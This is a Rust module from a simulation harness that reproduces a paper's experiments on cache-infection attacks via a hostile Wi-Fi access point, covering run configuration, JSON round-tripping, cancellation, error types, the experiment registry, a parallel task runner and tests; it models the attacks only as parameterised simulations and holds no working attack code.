    /// Worker threads for the fleet's per-AP simulations; `0` (the default)
    /// auto-sizes to the machine. Set to `1` to keep a campaign run
    /// single-threaded, e.g. when it is itself one task of a parallel sweep.
    pub fleet_jobs: usize,
    /// Simulated days the campaign fleet runs for. `1` (the default) is the
    /// classic single-snapshot sweep; above that the fleet enters the
    /// multi-day churn loop: clients arrive, depart and clear caches daily,
    /// target objects rotate per the Figure 3 churn model, and infections are
    /// carried forward day over day.
    pub fleet_days: u32,
    /// Daily client-turnover fraction for the multi-day campaign: each day,
    /// this share of every AP's clients departs and is replaced by fresh
    /// (clean) arrivals. `0` disables population churn.
    pub fleet_churn: f64,
    /// Draw per-AP heterogeneity (WiFi/WAN latency, jitter, attacker reaction
    /// and client weights) from seeded distributions instead of the paper's
    /// uniform Figure 2 timing. Off by default so the classic fleet artifact
    /// stays byte-identical.
    pub fleet_hetero: bool,
    /// Mean daily-visit probability for the multi-day campaign's seats. At
    /// `1.0` (the default) every clean seat browses through the hostile AP
    /// every day — the classic behaviour, byte-identical trajectories. Below
    /// `1.0`, each seat draws a personal visit probability once per campaign
    /// from a seeded [`mp_netsim::dist::Dist`] stream (disjoint from the
    /// churn/heterogeneity streams, so it composes with `fleet_hetero`), and
    /// each day a clean seat is exposed only if its daily visit draw lands.
    pub fleet_visit_prob: f64,
    /// Global event budget shared across *every* simulator of a run (all APs,
    /// shards and days of a campaign; all packet-level experiments of a
    /// budgeted sweep). `0` (the default) disables the global budget; when
    /// set, exhaustion fails the run with the typed
    /// [`NetError::EventBudgetExhausted`] instead of one shard starving
    /// silently.
    pub global_event_budget: u64,
    /// Seeded race trials per grid cell of the [`ExperimentId::AttackSurface`]
    /// sweep (victims attached to each cell's race world).
    pub surface_trials: usize,
    /// First master reaction delay of the attack-surface sweep, microseconds.
    pub surface_delay_start_us: u64,
    /// Last master reaction delay of the attack-surface sweep, microseconds.
    /// The default range spans the paper-timing crossover (~80.5 ms) where
    /// the genuine response starts beating the spoofed one.
    pub surface_delay_end_us: u64,
    /// Number of evenly spaced reaction delays swept over
    /// `[surface_delay_start_us, surface_delay_end_us]`.
    pub surface_delay_steps: usize,
    /// Number of evenly spaced defense-adoption fractions swept over `[0, 1]`.
    pub surface_adoption_steps: usize,
    /// First WAN one-way latency of the attack-surface sweep, microseconds.
    /// The default WAN axis is the single paper operating point (40 ms), so
    /// the classic surface artifact keeps its exact grid.
    pub surface_wan_start_us: u64,
    /// Last WAN one-way latency of the attack-surface sweep, microseconds.
    pub surface_wan_end_us: u64,
    /// Number of evenly spaced WAN latencies swept over
    /// `[surface_wan_start_us, surface_wan_end_us]`.
    pub surface_wan_steps: usize,
    /// Bitmask selecting the attack vectors of the surface sweep, bit *i*
    /// enabling `SurfaceVector::ALL[i]`; `0` (the default) sweeps all of
    /// them. Built from names by [`SurfaceVector::parse_mask`].
    pub surface_vectors: u8,
}

impl Default for RunConfig {
    fn default() -> Self {
        RunConfig {
            seed: 2021,
            scale: 1000,
            sites: 15_000,
            crawl_sites: 3_000,
            days: 100,
            event_budget: mp_netsim::sim::DEFAULT_EVENT_BUDGET,
            trace_mode: TraceMode::Full,
            jitter_us: 0,
            fleet_clients: 100_000,
            fleet_aps: 128,
            fleet_shards: 1,
            fleet_jobs: 0,
            fleet_days: 1,
            fleet_churn: 0.0,
            fleet_hetero: false,
            fleet_visit_prob: 1.0,
            global_event_budget: 0,
            surface_trials: 200,
            surface_delay_start_us: 300,
            surface_delay_end_us: 160_000,
            surface_delay_steps: 8,
            surface_adoption_steps: 5,
            surface_wan_start_us: 40_000,
            surface_wan_end_us: 40_000,
            surface_wan_steps: 1,
            surface_vectors: 0,
        }
    }
}

impl RunConfig {
    /// Reads a config back from its [`ToJson`] representation. Missing keys
    /// fall back to the defaults; wrongly-typed keys are an error.
    pub fn from_json(json: &Json) -> Option<RunConfig> {
        fn field<T>(json: &Json, key: &str, default: T, get: impl Fn(&Json) -> Option<T>) -> Option<T> {
            match json.get(key) {
                Some(value) => get(value),
                None => Some(default),
            }
        }
        let defaults = RunConfig::default();
        Some(RunConfig {
            seed: field(json, "seed", defaults.seed, Json::as_u64)?,
            scale: field(json, "scale", defaults.scale, Json::as_u64)?,
            sites: field(json, "sites", defaults.sites, |v| v.as_u64().map(|n| n as usize))?,
            crawl_sites: field(json, "crawl_sites", defaults.crawl_sites, |v| {
                v.as_u64().map(|n| n as usize)
            })?,
            days: field(json, "days", defaults.days, |v| v.as_u64().map(|n| n as u32))?,
            event_budget: field(json, "event_budget", defaults.event_budget, Json::as_u64)?,
            trace_mode: field(json, "trace_mode", defaults.trace_mode, |v| {
                v.as_str().and_then(|s| s.parse::<TraceMode>().ok())
            })?,
            jitter_us: field(json, "jitter_us", defaults.jitter_us, Json::as_u64)?,
            fleet_clients: field(json, "fleet_clients", defaults.fleet_clients, |v| {
                v.as_u64().map(|n| n as usize)
            })?,
            fleet_aps: field(json, "fleet_aps", defaults.fleet_aps, |v| {
                v.as_u64().map(|n| n as usize)
            })?,
            fleet_shards: field(json, "fleet_shards", defaults.fleet_shards, |v| {
                v.as_u64().map(|n| n as usize)
            })?,
            fleet_jobs: field(json, "fleet_jobs", defaults.fleet_jobs, |v| {
                v.as_u64().map(|n| n as usize)
            })?,
            fleet_days: field(json, "fleet_days", defaults.fleet_days, |v| {
                v.as_u64().map(|n| n as u32)
            })?,
            fleet_churn: field(json, "fleet_churn", defaults.fleet_churn, Json::as_f64)?,
            fleet_hetero: field(json, "fleet_hetero", defaults.fleet_hetero, Json::as_bool)?,
            fleet_visit_prob: field(
                json,
                "fleet_visit_prob",
                defaults.fleet_visit_prob,
                Json::as_f64,
            )?,
            global_event_budget: field(
                json,
                "global_event_budget",
                defaults.global_event_budget,
                Json::as_u64,
            )?,
            surface_trials: field(json, "surface_trials", defaults.surface_trials, |v| {
                v.as_u64().map(|n| n as usize)
            })?,
            surface_delay_start_us: field(
                json,
                "surface_delay_start_us",
                defaults.surface_delay_start_us,
                Json::as_u64,
            )?,
            surface_delay_end_us: field(
                json,
                "surface_delay_end_us",
                defaults.surface_delay_end_us,
                Json::as_u64,
            )?,
            surface_delay_steps: field(
                json,
                "surface_delay_steps",
                defaults.surface_delay_steps,
                |v| v.as_u64().map(|n| n as usize),
            )?,
            surface_adoption_steps: field(
                json,
                "surface_adoption_steps",
                defaults.surface_adoption_steps,
                |v| v.as_u64().map(|n| n as usize),
            )?,
            surface_wan_start_us: field(
                json,
                "surface_wan_start_us",
                defaults.surface_wan_start_us,
                Json::as_u64,
            )?,
            surface_wan_end_us: field(
                json,
                "surface_wan_end_us",
                defaults.surface_wan_end_us,
                Json::as_u64,
            )?,
            surface_wan_steps: field(json, "surface_wan_steps", defaults.surface_wan_steps, |v| {
                v.as_u64().map(|n| n as usize)
            })?,
            surface_vectors: field(json, "surface_vectors", defaults.surface_vectors, |v| {
                v.as_u64().map(|n| n as u8)
            })?,
        })
    }
}

impl ToJson for RunConfig {
    fn to_json(&self) -> Json {
        let mut pairs = vec![
            ("seed", self.seed.to_json()),
            ("scale", self.scale.to_json()),
            ("sites", self.sites.to_json()),
            ("crawl_sites", self.crawl_sites.to_json()),
            ("days", self.days.to_json()),
            ("event_budget", self.event_budget.to_json()),
            ("trace_mode", self.trace_mode.to_string().to_json()),
            ("jitter_us", self.jitter_us.to_json()),
            ("fleet_clients", self.fleet_clients.to_json()),
            ("fleet_aps", self.fleet_aps.to_json()),
            ("fleet_shards", self.fleet_shards.to_json()),
            ("fleet_jobs", self.fleet_jobs.to_json()),
        ];
        // Multi-day / heterogeneity / global-budget extensions are emitted
        // only when set, so classic single-snapshot reports keep their exact
        // JSON form ([`RunConfig::from_json`] defaults the absent keys).
        let defaults = RunConfig::default();
        if self.fleet_days != defaults.fleet_days {
            pairs.push(("fleet_days", self.fleet_days.to_json()));
        }
        if self.fleet_churn != defaults.fleet_churn {
            pairs.push(("fleet_churn", self.fleet_churn.to_json()));
        }
        if self.fleet_hetero != defaults.fleet_hetero {
            pairs.push(("fleet_hetero", self.fleet_hetero.to_json()));
        }
        if self.fleet_visit_prob != defaults.fleet_visit_prob {
            pairs.push(("fleet_visit_prob", self.fleet_visit_prob.to_json()));
        }
        if self.global_event_budget != defaults.global_event_budget {
            pairs.push(("global_event_budget", self.global_event_budget.to_json()));
        }
        if self.surface_trials != defaults.surface_trials {
            pairs.push(("surface_trials", self.surface_trials.to_json()));
        }
        if self.surface_delay_start_us != defaults.surface_delay_start_us {
            pairs.push(("surface_delay_start_us", self.surface_delay_start_us.to_json()));
        }
        if self.surface_delay_end_us != defaults.surface_delay_end_us {
            pairs.push(("surface_delay_end_us", self.surface_delay_end_us.to_json()));
        }
        if self.surface_delay_steps != defaults.surface_delay_steps {
            pairs.push(("surface_delay_steps", self.surface_delay_steps.to_json()));
        }
        if self.surface_adoption_steps != defaults.surface_adoption_steps {
            pairs.push(("surface_adoption_steps", self.surface_adoption_steps.to_json()));
        }
        if self.surface_wan_start_us != defaults.surface_wan_start_us {
            pairs.push(("surface_wan_start_us", self.surface_wan_start_us.to_json()));
        }
        if self.surface_wan_end_us != defaults.surface_wan_end_us {
            pairs.push(("surface_wan_end_us", self.surface_wan_end_us.to_json()));
        }
        if self.surface_wan_steps != defaults.surface_wan_steps {
            pairs.push(("surface_wan_steps", self.surface_wan_steps.to_json()));
        }
        if self.surface_vectors != defaults.surface_vectors {
            pairs.push(("surface_vectors", u64::from(self.surface_vectors).to_json()));
        }
        Json::obj(pairs)
    }
}

// ---------------------------------------------------------------------------
// Run context
// ---------------------------------------------------------------------------

/// Cooperative cancellation handle threaded through [`RunCtx`]: any holder
/// may [`CancelToken::cancel`], and long-running experiments poll
/// [`CancelToken::is_cancelled`] at safe stopping points. The multi-day
/// campaign checks it at every day boundary — a cancelled run stops after the
/// current day's checkpoint is written, so the checkpoint stays valid and a
/// resubmission resumes byte-identically (see
/// [`ExperimentError::Cancelled`]). Cloning shares the flag.
#[derive(Debug, Clone, Default)]
pub struct CancelToken {
    flag: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl CancelToken {
    /// A fresh, un-cancelled token.
    pub fn new() -> CancelToken {
        CancelToken::default()
    }

    /// Requests cancellation. Idempotent; takes effect at the experiment's
    /// next poll (for multi-day campaigns, the next day boundary).
    pub fn cancel(&self) {
        self.flag.store(true, Ordering::Relaxed);
    }

    /// Whether cancellation has been requested.
    pub fn is_cancelled(&self) -> bool {
        self.flag.load(Ordering::Relaxed)
    }
}

/// Incremental per-day observer for multi-day campaigns: the day loop calls
/// it after every completed day (and replays checkpoint-restored days on
/// resume), letting a caller — the campaign service daemon, a progress bar —
/// stream [`DayStats`] while the run is still going. The callback runs on the
/// campaign's thread and must be cheap and non-blocking.
#[derive(Clone)]
pub struct DaySink(std::sync::Arc<dyn Fn(&DayStats) + Send + Sync>);

impl DaySink {
    /// Wraps a callback into a sink.
    pub fn new(sink: impl Fn(&DayStats) + Send + Sync + 'static) -> DaySink {
        DaySink(std::sync::Arc::new(sink))
    }

    /// Delivers one completed day to the observer.
    pub fn emit(&self, stats: &DayStats) {
        (self.0)(stats);
    }
}

impl fmt::Debug for DaySink {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("DaySink")
    }
}

/// Cross-cutting execution state shared by every task of one run or sweep —
/// the optional global [`SharedBudget`], the cooperative [`CancelToken`] and
/// the optional per-day [`DaySink`]. Unlike [`RunConfig`] (plain serialisable
/// data, copied per task), the context carries live handles and is shared by
/// reference across a whole sweep.
#[derive(Debug, Clone, Default)]
pub struct RunCtx {
    /// Global event budget shared by every simulator the run builds, if the
    /// sweep requested one (see [`RunConfig::global_event_budget`]).
    pub shared_budget: Option<SharedBudget>,
    /// Cooperative cancellation flag; default tokens are never cancelled, so
    /// batch sweeps run to completion exactly as before.
    pub cancel: CancelToken,
    /// Observer for completed campaign days (the service daemon's streaming
    /// hook); `None` for batch runs.
    pub day_sink: Option<DaySink>,
}

impl RunCtx {
    /// Builds the context for a sweep over `configs`: if any config asks for
    /// a global event budget, one shared pool (sized by the largest request)
    /// is created for the entire sweep.
    pub fn for_sweep(configs: &[RunConfig]) -> RunCtx {
        let budget = configs.iter().map(|c| c.global_event_budget).max().unwrap_or(0);
        RunCtx {
            shared_budget: (budget > 0).then(|| SharedBudget::new(budget)),
            ..RunCtx::default()
        }
    }

    /// The shared budget to use for simulators built under `config`: the
    /// sweep-wide pool when present, otherwise a fresh pool if the config
    /// asks for one (the single-`try_run` path), otherwise none.
    pub(crate) fn budget_for(&self, config: &RunConfig) -> Option<SharedBudget> {
        match &self.shared_budget {
            Some(budget) => Some(budget.clone()),
            None if config.global_event_budget > 0 => {
                Some(SharedBudget::new(config.global_event_budget))
            }
            None => None,
        }
    }
}

// ---------------------------------------------------------------------------
// Experiment errors
// ---------------------------------------------------------------------------

/// Why an experiment run failed. Carried per artifact slot by
/// [`try_run_many`], so one failing scenario cannot abort a batch sweep.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum ExperimentError {
    /// A packet-level simulation failed — most commonly
    /// [`NetError::EventBudgetExhausted`] from a runaway scenario.
    Net(NetError),
    /// The configuration is outside what the experiment can simulate (e.g. a
    /// campaign fleet packing more clients onto one AP than its address
    /// space holds).
    Config(String),
    /// The experiment panicked; the panic was caught at the task boundary and
    /// its message preserved.
    Panicked(String),
    /// A multi-day campaign checkpoint could not be read, written or matched
    /// against the current configuration.
    Checkpoint(String),
    /// A distributed shard range could not be completed: its worker
    /// processes kept failing until the coordinator's retry limit for that
    /// range was exhausted. The message names the AP range.
    Shard(String),
    /// The run was cooperatively cancelled via [`CancelToken::cancel`]. A
    /// multi-day campaign stops at the next day boundary *after* writing its
    /// per-day checkpoint, so `completed_days` days are durable and a
    /// resubmission with the same checkpoint resumes byte-identically.
    Cancelled {
        /// Days that completed (and were checkpointed) before the stop.
        completed_days: u32,
    },
}

impl fmt::Display for ExperimentError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ExperimentError::Net(error) => write!(f, "network simulation failed: {error}"),
            ExperimentError::Config(message) => write!(f, "invalid configuration: {message}"),
            ExperimentError::Panicked(message) => write!(f, "experiment panicked: {message}"),
            ExperimentError::Checkpoint(message) => write!(f, "campaign checkpoint: {message}"),
            ExperimentError::Shard(message) => write!(f, "distributed shard failed: {message}"),
            ExperimentError::Cancelled { completed_days } => {
                write!(f, "run cancelled after {completed_days} completed day(s)")
            }
        }
    }
}

impl std::error::Error for ExperimentError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            ExperimentError::Net(error) => Some(error),
            ExperimentError::Config(_)
            | ExperimentError::Panicked(_)
            | ExperimentError::Checkpoint(_)
            | ExperimentError::Shard(_)
            | ExperimentError::Cancelled { .. } => None,
        }
    }
}

impl From<NetError> for ExperimentError {
    fn from(error: NetError) -> Self {
        ExperimentError::Net(error)
    }
}

// ---------------------------------------------------------------------------
// Artifacts
// ---------------------------------------------------------------------------

/// The structured result of one experiment run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum ArtifactData {
    /// Table I result.
    Table1(Table1Result),
    /// Table II result.
    Table2(Table2Result),
    /// Table III result.
    Table3(Table3Result),
    /// Table IV result.
    Table4(Table4Result),
    /// Table V result.
    Table5(Table5Result),
    /// Figure 1 flow trace.
    Fig1(FlowTrace),
    /// Figure 2 flow trace.
    Fig2(FlowTrace),
    /// Figure 3 result.
    Fig3(Fig3Result),
    /// Figure 4 result.
    Fig4(Fig4Result),
    /// Figure 5 result.
    Fig5(Fig5Result),
    /// Defence ablation result.
    Ablation(AblationResult),
    /// Campaign fleet sweep result.
    CampaignFleet(CampaignFleetResult),
    /// Attack-surface probability sweep result.
    AttackSurface(SurfaceResult),
}

macro_rules! artifact_accessor {
    ($(#[$doc:meta] $fn_name:ident, $variant:ident, $ty:ty;)*) => {
        $(
            #[$doc]
            pub fn $fn_name(&self) -> Option<&$ty> {
                match self {
                    ArtifactData::$variant(result) => Some(result),
                    _ => None,
                }
            }
        )*
    };
}

impl ArtifactData {
    artifact_accessor! {
        /// The Table I result, if this is one.
        as_table1, Table1, Table1Result;
        /// The Table II result, if this is one.
        as_table2, Table2, Table2Result;
        /// The Table III result, if this is one.
        as_table3, Table3, Table3Result;
        /// The Table IV result, if this is one.
        as_table4, Table4, Table4Result;
        /// The Table V result, if this is one.
        as_table5, Table5, Table5Result;
        /// The Figure 1 flow trace, if this is one.
        as_fig1, Fig1, FlowTrace;
        /// The Figure 2 flow trace, if this is one.
        as_fig2, Fig2, FlowTrace;
        /// The Figure 3 result, if this is one.
        as_fig3, Fig3, Fig3Result;
        /// The Figure 4 result, if this is one.
        as_fig4, Fig4, Fig4Result;
        /// The Figure 5 result, if this is one.
        as_fig5, Fig5, Fig5Result;
        /// The ablation result, if this is one.
        as_ablation, Ablation, AblationResult;
        /// The campaign fleet result, if this is one.
        as_campaign_fleet, CampaignFleet, CampaignFleetResult;
        /// The attack-surface result, if this is one.
        as_attack_surface, AttackSurface, SurfaceResult;
    }
}

impl ToJson for ArtifactData {
    fn to_json(&self) -> Json {
        match self {
            ArtifactData::Table1(r) => r.to_json(),
            ArtifactData::Table2(r) => r.to_json(),
            ArtifactData::Table3(r) => r.to_json(),
            ArtifactData::Table4(r) => r.to_json(),
            ArtifactData::Table5(r) => r.to_json(),
            ArtifactData::Fig1(r) => r.to_json(),
            ArtifactData::Fig2(r) => r.to_json(),
            ArtifactData::Fig3(r) => r.to_json(),
            ArtifactData::Fig4(r) => r.to_json(),
            ArtifactData::Fig5(r) => r.to_json(),
            ArtifactData::Ablation(r) => r.to_json(),
            ArtifactData::CampaignFleet(r) => r.to_json(),
            ArtifactData::AttackSurface(r) => r.to_json(),
        }
    }
}

/// One regenerated table or figure: the structured result, the configuration
/// that produced it, and uniform text / JSON renderings.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Artifact {
    /// Which experiment produced this artifact.
    pub id: ExperimentId,
    /// The configuration the experiment ran with.
    pub config: RunConfig,
    /// The structured result.
    pub data: ArtifactData,
}

impl Artifact {
    /// Renders the artifact as the paper-shaped text table/figure.
    pub fn render_text(&self) -> String {
        match &self.data {
            ArtifactData::Table1(r) => r.render(),
            ArtifactData::Table2(r) => r.render(),
            ArtifactData::Table3(r) => r.render(),
            ArtifactData::Table4(r) => r.render(),
            ArtifactData::Table5(r) => r.render(),
            ArtifactData::Fig1(r) => r.render(),
            ArtifactData::Fig2(r) => r.render(),
            ArtifactData::Fig3(r) => r.render(),
            ArtifactData::Fig4(r) => r.render(),
            ArtifactData::Fig5(r) => r.render(),
            ArtifactData::Ablation(r) => r.render(),
            ArtifactData::CampaignFleet(r) => r.render(),
            ArtifactData::AttackSurface(r) => r.render(),
        }
    }
}

impl ToJson for Artifact {
    fn to_json(&self) -> Json {
        Json::obj([
            ("id", self.id.as_str().to_json()),
            ("title", self.id.title().to_json()),
            ("config", self.config.to_json()),
            ("data", self.data.to_json()),
        ])
    }
}

// ---------------------------------------------------------------------------
// The Experiment trait and registry
// ---------------------------------------------------------------------------

/// A runnable experiment reproducing one artefact of the paper.
pub trait Experiment: Send + Sync {
    /// The experiment's identifier.
    fn id(&self) -> ExperimentId;

    /// Runs the experiment under the given configuration and execution
    /// context (shared global budget, when the sweep carries one), reporting
    /// failures as a typed [`ExperimentError`].
    fn try_run_ctx(&self, config: &RunConfig, ctx: &RunCtx) -> Result<Artifact, ExperimentError>;

    /// Runs the experiment under a default context, reporting failures (such
    /// as an exhausted event budget) as a typed [`ExperimentError`].
    fn try_run(&self, config: &RunConfig) -> Result<Artifact, ExperimentError> {
        self.try_run_ctx(config, &RunCtx::default())
    }

    /// Runs the experiment, panicking on failure. Convenient for the common
    /// case where the configuration is known to be sound; batch sweeps should
    /// prefer [`Experiment::try_run`] / [`try_run_many`].
    fn run(&self, config: &RunConfig) -> Artifact {
        match self.try_run(config) {
            Ok(artifact) => artifact,
            // Documented panicking convenience wrapper; try_run is the
            // typed-error path. mp-lint: allow(panic-discipline)
            Err(error) => panic!("experiment {} failed: {error}", self.id()),
        }
    }

    /// The artefact title (delegates to [`ExperimentId::title`]).
    fn title(&self) -> &'static str {
        self.id().title()
    }
}

macro_rules! experiments {
    ($(#[$doc:meta] $name:ident, $id:ident, $variant:ident, $runner:path;)*) => {
        $(
            #[$doc]
            #[derive(Debug, Clone, Copy, Default)]
            pub struct $name;

            impl Experiment for $name {
                fn id(&self) -> ExperimentId {
                    ExperimentId::$id
                }

                fn try_run_ctx(&self, config: &RunConfig, ctx: &RunCtx) -> Result<Artifact, ExperimentError> {
                    Ok(Artifact {
                        id: self.id(),
                        config: *config,
                        data: ArtifactData::$variant($runner(config, ctx)?),
                    })
                }
            }
        )*

        impl Registry {
            /// Returns the experiment registered under `id`.
            pub fn get(id: ExperimentId) -> Box<dyn Experiment> {
                match id {
                    $(ExperimentId::$id => Box::new($name),)*
                }
            }
        }
    };
}

/// The set of all eleven experiments.
///
/// `Registry::get(id)` returns a single experiment; [`Registry::all`] the
/// whole set, in the paper's order.
#[derive(Debug, Clone, Copy, Default)]
pub struct Registry;

experiments! {
    /// Table I — cache eviction on popular browsers.
    Table1Eviction, Table1, Table1, tables::table1_cache_eviction;
    /// Table II — the OS × browser TCP injection matrix.
    Table2Injection, Table2, Table2, tables::table2_injection_matrix;
    /// Table III — refresh methods vs Cache-API parasites.
    Table3Refresh, Table3, Table3, tables::table3_refresh_methods;
    /// Table IV — caches in the wild.
    Table4Caches, Table4, Table4, tables::table4_caches;
    /// Table V — attacks against applications.
    Table5Attacks, Table5, Table5, tables::table5_attacks;
    /// Figure 1 — cache eviction message flow.
    Fig1EvictionFlow, Fig1, Fig1, figures::fig1_eviction_flow;
    /// Figure 2 — cache infection message flow.
    Fig2InfectionFlow, Fig2, Fig2, figures::fig2_infection_flow;
    /// Figure 3 — the object-persistency crawl.
    Fig3Persistency, Fig3, Fig3, figures::fig3_persistency;
    /// Figure 4 — the C&C channel characterisation.
    Fig4CncChannel, Fig4, Fig4, figures::fig4_cnc_channel;
    /// Figure 5 — the CSP / HSTS / TLS policy scan.
    Fig5CspStats, Fig5, Fig5, figures::fig5_csp_stats;
    /// §VIII — the defence ablation.
    AblationDefenses, Ablation, Ablation, figures::ablation_defenses;
    /// Extension — the population-scale café-AP campaign sweep.
    CampaignFleetSweep, CampaignFleet, CampaignFleet, campaign::campaign_fleet;
    /// Extension — the attack-surface probability sweep.
    AttackSurfaceSweep, AttackSurface, AttackSurface, surface::attack_surface;
}

impl Registry {
    /// The paper's eleven experiments, in the paper's order.
    pub fn all() -> Vec<Box<dyn Experiment>> {
        ExperimentId::ALL.into_iter().map(Registry::get).collect()
    }

    /// Every registered experiment: the paper's eleven plus the extensions.
    pub fn extended() -> Vec<Box<dyn Experiment>> {
        ExperimentId::EXTENDED.into_iter().map(Registry::get).collect()
    }
}

// ---------------------------------------------------------------------------
// Parallel batch runner
// ---------------------------------------------------------------------------

/// Runs `run` over every task on a pool of `jobs` scoped worker threads,
/// returning results in task order. `jobs <= 1` runs inline. Used by the
/// experiment batch runner and by the campaign fleet's per-AP sweep.
pub(crate) fn parallel_tasks<T, R, F>(tasks: &[T], jobs: usize, run: F) -> Vec<R>
where
    T: Sync,
    R: Send,
    F: Fn(&T) -> R + Sync,
{
    let jobs = jobs.clamp(1, tasks.len().max(1));
    if jobs <= 1 {
        return tasks.iter().map(&run).collect();
    }

    let next = AtomicUsize::new(0);
    let slots: Vec<Mutex<Option<R>>> = tasks.iter().map(|_| Mutex::new(None)).collect();
    std::thread::scope(|scope| {
        for _ in 0..jobs {
            scope.spawn(|| loop {
                let index = next.fetch_add(1, Ordering::Relaxed);
                let Some(task) = tasks.get(index) else {
                    break;
                };
                let result = run(task);
                *slots[index].lock().expect("no panics while holding the slot lock") = Some(result);
            });
        }
    });
    slots
        .into_iter()
        .map(|slot| {
            slot.into_inner()
                .expect("worker threads joined")
                .expect("every task was executed")
        })
        .collect()
}

/// Extracts a readable message from a caught panic payload.
fn panic_message(payload: Box<dyn std::any::Any + Send>) -> String {
    if let Some(message) = payload.downcast_ref::<&str>() {
        (*message).to_string()
    } else if let Some(message) = payload.downcast_ref::<String>() {
        message.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

/// Runs the cross product of `ids` × `configs` on a pool of `jobs` worker
/// threads, returning one `Result` per task in deterministic id-major order
/// (`ids[0]` under every config, then `ids[1]`, …).
///
/// Every task is isolated: a scenario that exhausts its event budget (or even
/// panics) reports an [`ExperimentError`] in its own slot while its siblings
/// run to completion — one runaway configuration can no longer abort a whole
/// sweep.
///
/// If any config sets [`RunConfig::global_event_budget`], one shared event
/// pool spans the *entire* sweep: every simulator any task builds debits it,
/// and exhaustion fails the remaining packet-level tasks with the typed
/// [`NetError::EventBudgetExhausted`] in their own slots.
pub fn try_run_many(
    ids: &[ExperimentId],
    configs: &[RunConfig],
    jobs: usize,
) -> Vec<Result<Artifact, ExperimentError>> {
    let ctx = RunCtx::for_sweep(configs);
    let tasks: Vec<(ExperimentId, &RunConfig)> = ids
        .iter()
        .flat_map(|id| configs.iter().map(move |config| (*id, config)))
        .collect();
    parallel_tasks(&tasks, jobs, |(id, config)| {
        catch_unwind(AssertUnwindSafe(|| Registry::get(*id).try_run_ctx(config, &ctx)))
            .unwrap_or_else(|payload| Err(ExperimentError::Panicked(panic_message(payload))))
    })
}

/// Runs the cross product of `ids` × `configs` on a pool of `jobs` worker
/// threads and returns the artifacts in deterministic id-major order.
///
/// Independent experiments and multi-seed sweeps parallelise freely: every
/// experiment builds its own simulated world. `jobs <= 1` runs inline.
///
/// # Panics
///
/// Panics if any task fails; use [`try_run_many`] to isolate failures per
/// task instead.
pub fn run_many(ids: &[ExperimentId], configs: &[RunConfig], jobs: usize) -> Vec<Artifact> {
    try_run_many(ids, configs, jobs)
        .into_iter()
        .zip(ids.iter().flat_map(|id| configs.iter().map(move |_| *id)))
        .map(|(result, id)| match result {
            Ok(artifact) => artifact,
            // Documented panicking convenience wrapper; try_run_many is the
            // typed-error path. mp-lint: allow(panic-discipline)
            Err(error) => panic!("experiment {id} failed: {error}"),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn quick_config() -> RunConfig {
        RunConfig {
            sites: 1_500,
            crawl_sites: 400,
            days: 20,
            seed: 7,
            ..RunConfig::default()
        }
    }

    fn run(id: ExperimentId, config: &RunConfig) -> Artifact {
        Registry::get(id).run(config)
    }

    #[test]
    fn experiment_ids_round_trip_and_are_unique() {
        for id in ExperimentId::ALL {
            assert_eq!(id.to_string().parse::<ExperimentId>(), Ok(id));
        }
        assert!("table9".parse::<ExperimentId>().is_err());
        assert_eq!(" Table1 ".parse::<ExperimentId>(), Ok(ExperimentId::Table1));
        let ids: std::collections::HashSet<&str> =
            ExperimentId::ALL.iter().map(|id| id.as_str()).collect();
        assert_eq!(ids.len(), 11, "id strings must be pairwise distinct");
    }

    #[test]
    fn registry_covers_all_eleven_experiments() {
        let all = Registry::all();
        assert_eq!(all.len(), 11);
        for (experiment, id) in all.iter().zip(ExperimentId::ALL) {
            assert_eq!(experiment.id(), id);
            assert_eq!(experiment.title(), id.title());
        }
    }

    #[test]
    fn run_config_json_round_trips() {
        let config = RunConfig {
            seed: 42,
            scale: 7,
            sites: 123,
            crawl_sites: 45,
            days: 6,
            event_budget: 10_000_000,
            trace_mode: TraceMode::Ring(512),
            jitter_us: 250,
            fleet_clients: 9_000,
            fleet_aps: 16,
            fleet_shards: 2,
            fleet_jobs: 3,
            fleet_days: 7,
            fleet_churn: 0.25,
            fleet_hetero: true,
            fleet_visit_prob: 0.75,
            global_event_budget: 123_456,
            surface_trials: 64,
            surface_delay_start_us: 500,
            surface_delay_end_us: 90_000,
            surface_delay_steps: 4,
            surface_adoption_steps: 3,
            surface_wan_start_us: 5_000,
            surface_wan_end_us: 120_000,
            surface_wan_steps: 3,
            surface_vectors: 0b0101,
        };
        let json = config.to_json();
        let parsed = Json::parse(&json.to_string()).expect("well-formed JSON");
        assert_eq!(RunConfig::from_json(&parsed), Some(config));
        // The extension keys appear only when they differ from the defaults,
        // so classic configs keep their exact JSON form.
        let classic = RunConfig::default().to_json().to_string();
        for absent in [
            "fleet_days",
            "fleet_churn",
            "fleet_hetero",
            "fleet_visit_prob",
            "global_event_budget",
            "surface_trials",
            "surface_delay_start_us",
            "surface_delay_end_us",
            "surface_delay_steps",
            "surface_adoption_steps",
            "surface_wan_start_us",
            "surface_wan_end_us",
            "surface_wan_steps",
            "surface_vectors",
        ] {
            assert!(!classic.contains(absent), "classic config JSON must omit {absent}");
        }
        // Missing keys fall back to defaults.
        assert_eq!(RunConfig::from_json(&Json::obj([])), Some(RunConfig::default()));
        // Wrongly-typed keys are an error.
        assert_eq!(
            RunConfig::from_json(&Json::obj([("seed", Json::Str("not a number".into()))])),
            None
        );
        assert_eq!(
            RunConfig::from_json(&Json::obj([("trace_mode", Json::Str("sometimes".into()))])),
            None
        );
    }

    #[test]
    fn table1_reproduces_the_papers_shape() {
        let artifact = run(ExperimentId::Table1, &RunConfig::default());
        let result = artifact.data.as_table1().expect("table1 artifact");
        assert_eq!(result.rows.len(), 6);
        let ie = result.rows.iter().find(|r| r.browser.starts_with("IE")).unwrap();
        assert!(!ie.evicted_targets);
        assert_eq!(ie.remark, "DOS on memory");
        let chrome = result.rows.iter().find(|r| r.browser.starts_with("Chrome 81")).unwrap();
        assert!(chrome.evicted_targets);
        assert!(artifact.render_text().contains("DOS on memory"));
    }

    #[test]
    fn table2_all_supported_combinations_succeed() {
        let artifact = run(ExperimentId::Table2, &RunConfig::default());
